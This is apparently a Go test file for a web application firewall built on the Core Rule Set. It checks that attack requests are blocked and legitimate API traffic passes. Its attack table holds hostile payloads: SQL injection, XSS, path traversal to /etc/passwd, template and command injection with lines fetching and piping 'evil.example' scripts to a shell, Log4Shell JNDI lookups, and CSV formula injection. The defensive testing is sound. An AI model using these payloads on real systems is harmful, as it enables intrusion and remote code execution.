package waf

import (
	"bytes"
	"fmt"
	"io"
	"math/rand"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"

	"synthos.dev/synthos/internal/cputime"
)

var (
	sharedOnce sync.Once
	shared     *WAF
	sharedErr  error
)

// crs compiles CRS once per test binary (about a second).
func crs(t testing.TB) *WAF {
	t.Helper()
	sharedOnce.Do(func() { shared, sharedErr = New(Options{}) })
	if sharedErr != nil {
		t.Fatal(sharedErr)
	}
	return shared
}

var client = netip.MustParseAddr("203.0.113.9")

const key = "Bearer sk_test_abcdefghijklmnopqrstuvwxyz012345"

func req(method, target, contentType string, body []byte) *http.Request {
	var r *http.Request
	if body == nil {
		r = httptest.NewRequest(method, target, nil)
	} else {
		r = httptest.NewRequest(method, target, bytes.NewReader(body))
	}
	r.Host = "api.synthos.dev"
	r.Header.Set("Authorization", key)
	r.Header.Set("User-Agent", "curl/8.5.0")
	r.Header.Set("Accept", "*/*")
	if contentType != "" {
		r.Header.Set("Content-Type", contentType)
	}
	return r
}

func jsonReq(method, target, body string) *http.Request {
	return req(method, target, "application/json", []byte(body))
}

func multipartReq(t testing.TB, target, name string, content []byte) *http.Request {
	t.Helper()
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	fw, err := mw.CreateFormFile("file", name)
	if err != nil {
		t.Fatal(err)
	}
	fw.Write(content)
	mw.Close()
	return req("POST", target, mw.FormDataContentType(), b.Bytes())
}

// attacks must all be refused at paranoia 1, threshold 5.
func attacks(t testing.TB) []struct {
	name string
	r    *http.Request
} {
	q := url.QueryEscape
	return []struct {
		name string
		r    *http.Request
	}{
		{"sqli in query", req("GET", "/v1/jobs?cursor="+q("1' OR '1'='1' --"), "", nil)},
		{"sqli union", req("GET", "/v1/datasets?limit="+q("1 UNION SELECT username, password FROM users"), "", nil)},
		{"sqli in json", jsonReq("POST", "/v1/jobs", `{"dataset":"ds_1' OR 1=1; DROP TABLE jobs; --","rows":10}`)},
		{"sqli sleep", req("GET", "/v1/jobs?limit="+q("1 AND SLEEP(5)"), "", nil)},
		{"xss script", req("GET", "/v1/jobs?cursor="+q("<script>alert(document.cookie)</script>"), "", nil)},
		{"xss in json", jsonReq("POST", "/v1/webhooks", `{"url":"https://example.com/h","description":"<img src=x onerror=alert(1)>"}`)},
		{"xss javascript uri", req("GET", "/v1/jobs?next="+q("javascript:alert(1)"), "", nil)},
		{"path traversal", req("GET", "/v1/jobs/x/report?format="+q("../../../../etc/passwd"), "", nil)},
		{"path traversal encoded", req("GET", "/v1/datasets/..%2f..%2f..%2fetc%2fpasswd", "", nil)},
		{"template injection", jsonReq("POST", "/v1/jobs", `{"dataset":"ds_1","target":"{{ ''.__class__.__mro__[1].__subclasses__() }}"}`)},
		{"template injection java el", req("GET", "/v1/jobs?cursor="+q("${T(java.lang.Runtime).getRuntime().exec('id')}"), "", nil)},
		{"template injection freemarker", jsonReq("POST", "/v1/keys", `{"name":"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"}`)},
		{"template injection twig", req("GET", "/v1/jobs?cursor="+q("{{_self.env.registerUndefinedFilterCallback('exec')}}"), "", nil)},
		{"command injection", req("GET", "/v1/jobs?cursor="+q("x; cat /etc/passwd"), "", nil)},
		{"command injection backticks", jsonReq("POST", "/v1/keys", `{"name":"k`+"`"+`wget http://evil.example/x.sh -O- | sh`+"`"+`"}`)},
		{"command injection subshell", req("GET", "/v1/jobs?cursor="+q("$(curl http://evil.example/x|bash)"), "", nil)},
		// RE2 stops at an invalid UTF-8 byte; such values run on Go's regexp.
		{"sqli behind invalid utf-8", jsonReq("POST", "/v1/jobs", "{\"dataset\":\"\xff 1 UNION SELECT username, password FROM users\"}")},
		{"xss behind invalid utf-8", req("GET", "/v1/jobs?cursor="+q("\xc0<script>alert(document.cookie)</script>"), "", nil)},
		{"log4shell in header", func() *http.Request {
			r := req("GET", "/v1/jobs", "", nil)
			r.Header.Set("User-Agent", "${jndi:ldap://evil.example/a}")
			return r
		}()},
		{"log4shell obfuscated in json", jsonReq("POST", "/v1/jobs", `{"dataset":"${${lower:j}ndi:${lower:l}dap://evil.example/x}"}`)},
		{"log4shell in query", req("GET", "/v1/jobs?cursor="+q("${jndi:rmi://evil.example:1099/obj}"), "", nil)},
		{"php injection", req("GET", "/v1/jobs?cursor="+q("<?php system($_GET['c']); ?>"), "", nil)},
		// CRS's restricted headers (920450, rewritten in restrictedHeaders).
		{"method override header", func() *http.Request {
			r := req("POST", "/v1/keys/key_1", "", nil)
			r.Header.Set("X-HTTP-Method-Override", "DELETE")
			return r
		}()},
		{"middleware subrequest header", func() *http.Request {
			r := req("GET", "/v1/jobs", "", nil)
			r.Header.Set("x-middleware-subrequest", "middleware:middleware:middleware")
			return r
		}()},
		{"scanner user agent", func() *http.Request {
			r := req("GET", "/v1/jobs", "", nil)
			r.Header.Set("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
			return r
		}()},
	}
}

func TestAttacksBlocked(t *testing.T) {
	w := crs(t)
	for _, a := range attacks(t) {
		t.Run(a.name, func(t *testing.T) {
			v, _, err := w.Inspect(a.r, client)
			if err != nil {
				t.Fatal(err)
			}
			if !v.Blocked {
				t.Fatalf("not blocked; matches %+v", v.Matches)
			}
		})
	}
}

// The rule families removed as irrelevant change no verdict of the attack
// and legitimate tables: every attack full CRS refuses is still refused, and
// what full CRS lets through still passes.
func TestIrrelevantRemovalKeepsDetection(t *testing.T) {
	full, err := New(Options{keepIrrelevant: true})
	if err != nil {
		t.Fatal(err)
	}
	w := crs(t)
	// A fresh request per WAF: Inspect consumes the body.
	type mk = func() []struct {
		name string
		r    *http.Request
	}
	for _, table := range []struct {
		name string
		mk   mk
	}{
		{"attacks", func() []struct {
			name string
			r    *http.Request
		} {
			return attacks(t)
		}},
		{"legitimate", func() []struct {
			name string
			r    *http.Request
		} {
			return legitimate(t)
		}},
	} {
		a, b := table.mk(), table.mk()
		for i := range a {
			t.Run(table.name+"/"+a[i].name, func(t *testing.T) {
				vFull, _, err := full.Inspect(a[i].r, client)
				if err != nil {
					t.Fatal(err)
				}
				v, _, err := w.Inspect(b[i].r, client)
				if err != nil {
					t.Fatal(err)
				}
				if v.Blocked != vFull.Blocked {
					t.Fatalf("blocked %v, full CRS %v (rules %s vs %s)", v.Blocked, vFull.Blocked, v.RuleIDs(), vFull.RuleIDs())
				}
			})
		}
	}
	// The removed rules are gone: a PHP function call with no open tag, which
	// only 933xxx sees, now passes, while the open tag is still refused.
	call := jsonReq("POST", "/v1/keys", `{"name":"k","note":"passthru($_GET[c]);"}`)
	if v, _, _ := full.Inspect(jsonReq("POST", "/v1/keys", `{"name":"k","note":"passthru($_GET[c]);"}`), client); !v.Blocked {
		t.Fatalf("full CRS let a PHP call through (%s): the test payload no longer exercises 933xxx", v.RuleIDs())
	}
	if v, _, _ := w.Inspect(call, client); v.Blocked {
		t.Fatalf("a PHP call was refused (%s): are 933110-933220 still loaded?", v.RuleIDs())
	}
	if v, _, _ := w.Inspect(jsonReq("POST", "/v1/keys", `{"name":"<?php echo 1; ?>"}`), client); !v.Blocked {
		t.Fatal("a PHP open tag was let through: 933100 must stay")
	}
}

// legitimate are requests our own clients send: the README's examples and
// what the API tests send. None may be refused.
func legitimate(t testing.TB) []struct {
	name string
	r    *http.Request
} {
	formulas := []byte("name,amount,note\nalice,=SUM(A1:A9),\"=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"\nbob,+1,-2\ncarol,@cmd,'O''Brien'; DROP TABLE x\n")
	type item = struct {
		name string
		r    *http.Request
	}
	out := []item{
		{"healthz", req("GET", "/healthz", "", nil)},
		{"readyz", req("GET", "/readyz", "", nil)},
		{"openapi", req("GET", "/v1/openapi.json", "", nil)},
		{"list datasets", req("GET", "/v1/datasets", "", nil)},
		{"get dataset", req("GET", "/v1/datasets/ds_01J9ZK3Q4X5Y6Z7A8B9C0D1E2F", "", nil)},
		{"list jobs paged", req("GET", "/v1/jobs?limit=50&cursor=eyJpZCI6ImpvYl8xMjMifQ%3D%3D", "", nil)},
		{"report html", req("GET", "/v1/jobs/job_1/report?format=html", "", nil)},
		{"output content", req("GET", "/v1/jobs/job_1/output/content", "", nil)},
		{"usage", req("GET", "/v1/usage", "", nil)},
		{"walkthrough job", func() *http.Request {
			r := jsonReq("POST", "/v1/jobs", `{"dataset":"ds_01J9ZK3Q4X5Y6Z7A8B9C0D1E2F","rows":1000,"model":"tree","seed":42,"target":"charges"}`)
			r.Header.Set("Idempotency-Key", "walkthrough-job-1")
			return r
		}()},
		{"job with every rule type and regexes", jsonReq("POST", "/v1/jobs", `{"dataset":"ds_1","rows":500,"model":"copula","format":"parquet","rules":[
  {"type": "compare", "left": "checkout", "op": ">", "right": "checkin"},
  {"type": "compare", "left": "age", "op": ">=", "value": 18},
  {"type": "range", "column": "age", "min": 18, "max": 65},
  {"type": "combination", "columns": ["city", "country"]},
  {"type": "unique", "columns": ["email"]},
  {"type": "format", "column": "sku", "regex": "^[A-Z]{3}-\\d{4}$"},
  {"type": "format", "column": "email", "regex": "^[^@\\s]+@[^@\\s]+\\.[a-z]{2,}$"},
  {"type": "format", "column": "phone", "regex": "^\\+?[0-9 ()-]{7,20}$"},
  {"type": "format", "column": "path", "regex": "^(/[a-z0-9_.-]+)+/?$|^select|union|or 1=1$"},
  {"type": "in", "column": "status", "values": ["active", "paused"]}
],"conditions":{"smoker":"yes","region":"southwest"},"thresholds":{"max_dcr_share":0.6}}`)},
		{"dp job", jsonReq("POST", "/v1/jobs", `{"dataset":"ds_1","rows":1000,"model":"dp","epsilon":1.5,"delta":1e-9}`)},
		{"upload session", jsonReq("POST", "/v1/datasets/uploads", `{"name":"big.csv","size":1073741824}`)},
		{"complete upload", req("POST", "/v1/datasets/ds_1/complete", "", nil)},
		{"privacy budget", jsonReq("PUT", "/v1/datasets/ds_1/privacy-budget", `{"epsilon":20,"delta":1e-9}`)},
		{"create key", jsonReq("POST", "/v1/keys", `{"name":"ci deploy key (read-only)","scopes":["read"]}`)},
		{"revoke key", req("DELETE", "/v1/keys/key_01J9ZK3Q", "", nil)},
		{"create webhook", jsonReq("POST", "/v1/webhooks", `{"url":"https://hooks.example.com/synthos?team=data&env=prod","description":"Job events -> #data-alerts","event_types":["job.succeeded","job.*"]}`)},
		{"disable webhook", jsonReq("PATCH", "/v1/webhooks/wh_1", `{"enabled":false}`)},
		{"rotate webhook", jsonReq("POST", "/v1/webhooks/wh_1/rotate", `{"grace_seconds":86400}`)},
		{"replay delivery", req("POST", "/v1/webhooks/deliveries/msg_1/replay", "", nil)},
		{"x-api-key", func() *http.Request {
			r := req("GET", "/v1/jobs", "", nil)
			r.Header.Del("Authorization")
			r.Header.Set("X-API-Key", "sk_live_abcdefghijklmnopqrstuvwxyz012345")
			return r
		}()},
		{"multipart csv with formulas", multipartReq(t, "/v1/datasets", "formulas.csv", formulas)},
		{"chunk with formulas", func() *http.Request {
			r := req("PUT", "/v1/datasets/ds_1/content", "text/csv", formulas)
			r.Header.Set("Content-Range", fmt.Sprintf("bytes 0-%d/%d", len(formulas)-1, len(formulas)))
			return r
		}()},
		{"paddle webhook", func() *http.Request {
			r := jsonReq("POST", "/webhooks/paddle", `{"event_id":"evt_1","event_type":"subscription.updated","data":{"customer":{"name":"O'Brien; DROP TABLE customers --"}}}`)
			r.Header.Set("Paddle-Signature", "ts=1700000000;h1=abcdef")
			return r
		}()},
	}
	// Every dataset of ../shared/datasets, uploaded whole and as a chunk.
	dir := "../../../shared/datasets"
	files, err := filepath.Glob(filepath.Join(dir, "*.csv"))
	if err != nil || len(files) == 0 {
		t.Fatalf("the datasets are missing from %s (they come with the checkout's shared/ folder): %v", dir, err)
	}
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, item{"upload " + filepath.Base(f), multipartReq(t, "/v1/datasets", filepath.Base(f), b)})
		out = append(out, item{"chunk " + filepath.Base(f), req("PUT", "/v1/datasets/ds_1/content", "application/octet-stream", b)})
	}
	// The README examples.
	readme, err := os.ReadFile("../../examples/insurance.csv")
	if err != nil {
		t.Fatal(err)
	}
	out = append(out, item{"README upload examples/insurance.csv", multipartReq(t, "/v1/datasets", "insurance.csv", readme)})
	return out
}

func TestLegitimateNeverBlocked(t *testing.T) {
	w := crs(t)
	for _, l := range legitimate(t) {
		t.Run(l.name, func(t *testing.T) {
			var want []byte
			if l.r.Body != nil {
				want, _ = io.ReadAll(l.r.Body)
				l.r.Body = io.NopCloser(bytes.NewReader(want))
			}
			v, r, err := w.Inspect(l.r, client)
			if err != nil {
				t.Fatal(err)
			}
			if v.Blocked || v.Flagged {
				t.Fatalf("refused: %+v", v.Matches)
			}
			// The handler still reads the whole body.
			if r.Body != nil {
				got, _ := io.ReadAll(r.Body)
				if !bytes.Equal(got, want) {
					t.Fatalf("body changed: %d bytes, want %d", len(got), len(want))
				}
			}
		})
	}
}

// The exclusions are needed: without them, CRS refuses requests of ours.
func TestExclusionsMatter(t *testing.T) {
	inspectAll, err := New(Options{SkipBody: func(*http.Request) bool { return false }})
	if err != nil {
		t.Fatal(err)
	}
	formulas := []byte("a,b\n1,=cmd|' /C calc'!A0\n2,\"=HYPERLINK(\"\"http://evil.example\"\")\"\n")
	v, _, err := inspectAll.Inspect(req("PUT", "/v1/datasets/ds_1/content", "text/csv", formulas), client)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Blocked {
		t.Fatalf("CRS no longer misfires on a formula chunk (%s): the upload exclusion may be unnecessary", v.RuleIDs())
	}
	// The regex exclusion: the same payload in another field is refused,
	// so the exclusion (not CRS's leniency) lets the rule through.
	body := `{"dataset":"ds_1","rules":[{"type":"format","column":"c","regex":"1' union select password from users or 1=1 --"}]}`
	if v, _, _ := crs(t).Inspect(jsonReq("POST", "/v1/jobs", body), client); v.Blocked {
		t.Fatalf("regex field refused: %+v", v.Matches)
	}
	moved := `{"dataset":"ds_1","target":"1' union select password from users or 1=1 --"}`
	if v, _, _ := crs(t).Inspect(jsonReq("POST", "/v1/jobs", moved), client); !v.Blocked {
		t.Fatalf("the same payload outside a rule's regex was not refused: %+v", v.Matches)
	}
}

// The API key headers are not inspected: a key that happens to look like
// an attack reaches the authenticator (which refuses any key it did not
// issue), while the same string in any other header is still refused.
func TestAPIKeyHeadersExcluded(t *testing.T) {
	const payload = "sk_live_../../../../etc/passwd;${jndi:ldap://evil.example/a}"
	for _, tc := range []struct {
		header  string
		value   string
		blocked bool
	}{
		{"Authorization", "Bearer " + payload, false},
		{"X-API-Key", payload, false},
		{"X-Client-Note", payload, true},
		{"User-Agent", payload, true},
	} {
		t.Run(tc.header, func(t *testing.T) {
			r := req("GET", "/v1/jobs", "", nil)
			r.Header.Set(tc.header, tc.value)
			v, _, err := crs(t).Inspect(r, client)
			if err != nil {
				t.Fatal(err)
			}
			if v.Blocked != tc.blocked {
				t.Fatalf("blocked %v, want %v (rules %s)", v.Blocked, tc.blocked, v.RuleIDs())
			}
		})
	}
}

func TestDetectMode(t *testing.T) {
	w, err := New(Options{Mode: Detect})
	if err != nil {
		t.Fatal(err)
	}
	v, _, err := w.Inspect(req("GET", "/v1/jobs?cursor="+url.QueryEscape("1' OR '1'='1' --"), "", nil), client)
	if err != nil {
		t.Fatal(err)
	}
	if v.Blocked || !v.Flagged || len(v.Matches) == 0 {
		t.Fatalf("detect mode: %+v", v)
	}
	off, err := New(Options{Mode: Off})
	if err != nil {
		t.Fatal(err)
	}
	if v, _, _ := off.Inspect(req("GET", "/v1/jobs?cursor="+url.QueryEscape("<script>alert(1)</script>"), "", nil), client); v.Flagged {
		t.Fatal("off mode inspected")
	}
}

func TestThresholdAndOptions(t *testing.T) {
	// A high threshold lets a single critical match through.
	lax, err := New(Options{Threshold: 1000})
	if err != nil {
		t.Fatal(err)
	}
	r := req("GET", "/v1/jobs?cursor="+url.QueryEscape("<script>alert(1)</script>"), "", nil)
	if v, _, _ := lax.Inspect(r, client); v.Blocked {
		t.Fatalf("threshold 1000 blocked: %+v", v.Matches)
	}
	for _, bad := range []Options{{Paranoia: 5}, {Paranoia: -1}, {Threshold: -3}} {
		if _, err := New(bad); err == nil {
			t.Errorf("%+v accepted", bad)
		}
	}
	if _, err := ParseMode("sometimes"); err == nil {
		t.Error("bad mode accepted")
	}
}

// FuzzInspect: no input makes Inspect fail or panic, and the handler always
// gets the exact body that was sent.
func FuzzInspect(f *testing.F) {
	f.Add("GET", "/v1/jobs", "cursor=abc", "application/json", []byte(""))
	f.Add("POST", "/v1/jobs", "", "application/json", []byte(`{"dataset":"ds_1","rules":[{"type":"format","regex":"^a$"}]}`))
	f.Add("POST", "/v1/datasets", "", "multipart/form-data; boundary=x", []byte("--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\n\r\na,b\n1,2\r\n--x--\r\n"))
	f.Add("PUT", "/v1/datasets/ds_1/content", "", "text/csv", []byte("=1+1,2\n"))
	f.Add("POST", "/v1/jobs", "", "application/x-www-form-urlencoded", []byte("a=%%%&b=<script>"))
	w := crs(f)
	f.Fuzz(func(t *testing.T, method, path, query, ctype string, body []byte) {
		u := &url.URL{Path: "/" + strings.TrimLeft(path, "/"), RawQuery: query}
		r, err := http.NewRequest(strings.ToUpper(method), "http://api.synthos.dev"+u.RequestURI(), bytes.NewReader(body))
		if err != nil {
			t.Skip()
		}
		r.Header.Set("Content-Type", ctype)
		r.RemoteAddr = "203.0.113.9:1234"
		_, r2, err := w.Inspect(r, client)
		if err != nil {
			t.Fatalf("Inspect: %v", err)
		}
		got, err := io.ReadAll(r2.Body)
		if err != nil || !bytes.Equal(got, body) {
			t.Fatalf("body not replayed: %d bytes of %d (%v)", len(got), len(body), err)
		}
	})
}

func benchInspect(b *testing.B, r func() *http.Request) {
	w := crs(b)
	if err := w.Warm(r()); err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	cpu0 := cputime.Process()
	for i := 0; i < b.N; i++ {
		v, _, err := w.Inspect(r(), client)
		if err != nil || v.Blocked {
			b.Fatal(err, v)
		}
	}
	b.StopTimer()
	b.ReportMetric(float64((cputime.Process()-cpu0).Nanoseconds())/float64(b.N), "cpu-ns/op")
}

func BenchmarkInspectGET(b *testing.B) {
	benchInspect(b, func() *http.Request { return req("GET", "/v1/jobs/job_01J9ZK3Q4X5Y6Z7A8B9C0D1E2F", "", nil) })
}

func BenchmarkInspectJobJSON(b *testing.B) {
	body := []byte(`{"dataset":"ds_01J9ZK3Q4X5Y6Z7A8B9C0D1E2F","rows":1000,"model":"tree","seed":42,"target":"charges","rules":[{"type":"range","column":"age","min":18,"max":65}]}`)
	benchInspect(b, func() *http.Request { return req("POST", "/v1/jobs", "application/json", body) })
}

// Header names fed in lower case change no verdict (ids and messages
// exactly), and the matches and TX only in the case of the header names
// they mention, at paranoia 1 (tables and random requests) and 4 (tables).
func TestLowerNamesKeepVerdicts(t *testing.T) {
	fold := func(o outcome) outcome {
		o.Matched = append([]string(nil), o.Matched...)
		for i := range o.Matched {
			o.Matched[i] = strings.ToLower(o.Matched[i])
		}
		o.TX = append([]string(nil), o.TX...)
		for i := range o.TX {
			o.TX[i] = strings.ToLower(o.TX[i])
		}
		slices.Sort(o.TX)
		return o
	}
	for _, pl := range []int{1, 4} {
		lower, err := New(Options{Paranoia: pl, noVariants: true})
		if err != nil {
			t.Fatal(err)
		}
		canon, err := New(Options{Paranoia: pl, noVariants: true, canonicalNames: true})
		if err != nil {
			t.Fatal(err)
		}
		if !lower.lowerNames || canon.lowerNames {
			t.Fatal("lowerNames not set as asked")
		}
		seen := false
		compare := func(name string, a, b outcome) {
			if !reflect.DeepEqual(a.Verdict, b.Verdict) || !reflect.DeepEqual(fold(a), fold(b)) {
				t.Errorf("paranoia %d, %s: lower-case and Go's names differ\nlower: %s\nGo:    %s", pl, name, diff(a, b), diff(b, a))
			}
			if strings.Contains(strings.Join(b.Matched, " "), "REQUEST_HEADERS:") {
				seen = true
			}
		}
		for _, c := range tables(t) {
			mk := replay(t, c.r)
			a, _ := run(t, lower, lower.waf, mk())
			b, _ := run(t, canon, canon.waf, mk())
			compare(c.name, a, b)
		}
		if pl == 1 {
			rng := rand.New(rand.NewSource(36))
			for i := 0; i < 150; i++ {
				mk, desc := randomRequest(rng)
				a, _ := run(t, lower, lower.waf, mk())
				b, _ := run(t, canon, canon.waf, mk())
				compare(fmt.Sprintf("random %d: %s", i, desc), a, b)
			}
		}
		if !seen {
			t.Errorf("paranoia %d: no request matched on a header: the comparison proves nothing", pl)
		}
	}
	// Operator directives that read header names keep Go's names.
	w, err := New(Options{noVariants: true, Directives: `SecRule REQUEST_HEADERS_NAMES "@streq X-Evil" "id:10500,phase:1,deny"`})
	if err != nil {
		t.Fatal(err)
	}
	r := req("GET", "/v1/jobs", "", nil)
	r.Header.Set("X-Evil", "1")
	if v, _, _ := w.Inspect(r, client); !v.Blocked {
		t.Errorf("a case-sensitive operator rule on header names missed: %+v", v)
	}
}

func TestLowerName(t *testing.T) {
	for _, k := range []string{"User-Agent", "X-Api-Key", "X-Custom-Thing", "already-lower", "Weird_Name"} {
		if got := lowerName(k); got != strings.ToLower(k) {
			t.Errorf("lowerName(%q) = %q", k, got)
		}
	}
}
